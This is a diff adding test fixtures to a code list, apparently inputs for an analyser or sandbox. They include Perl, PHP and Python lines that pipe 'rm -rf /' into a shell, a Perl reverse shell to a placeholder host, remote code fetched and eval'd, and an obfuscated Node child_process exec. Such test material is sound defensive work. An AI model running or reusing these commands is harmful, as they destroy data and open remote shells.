@@ -77,6 +77,18 @@ CODE_FOLD = [
     (1, "const c=require(`child_${'process'}`);c[`exec${'Sync'}`]('x'.split('').reverse().join(''))"),
     (1, "x[" * 2000 + "'a'" + "](1)" * 2000),
     (1, "`${`${`${" * 20 + "1" + "}`}`}`" * 20),
+    # shells written to, variables, network code evaluated, endless loops (3 Perl, 4 Ruby, 5 PHP)
+    (0, "import os\np = os.popen('sh', 'w')\np.write('rm -rf ~\\n')\n" + "p.write('x')\n" * 2000),
+    (1, "let b='';" + "b += c;" * 3000 + "eval(b)"),
+    (0, "while True:\n" + "    x.append(1)\n" * 3000),
+    (1, "while(true){" * 500 + "a.push(1)" + "}" * 500),
+    (3, "open(my $fh, '|sh'); " + "print $fh \"rm -rf /\\n\"; " * 2000),
+    (3, "my $c = get('http://x/a'); " * 500 + "eval $c"),
+    (3, "$s=new IO::Socket::INET(PeerAddr,'h:1');STDIN->fdopen($s,r);system$_ while<>;"),
+    (4, "d = Dir.mktmpdir; " * 1000 + "FileUtils.rm_rf(d)"),
+    (4, "IO.popen('sh', 'w') { |io| " + "io.puts 'x'; " * 2000 + "}"),
+    (5, "$h = popen('sh', 'w'); " + "fwrite($h, 'rm -rf /'); " * 2000),
+    (5, "$a = '/'; " + "$a = $a . $a; " * 40 + "system('rm -rf ' . $a);"),
 ]
 
 
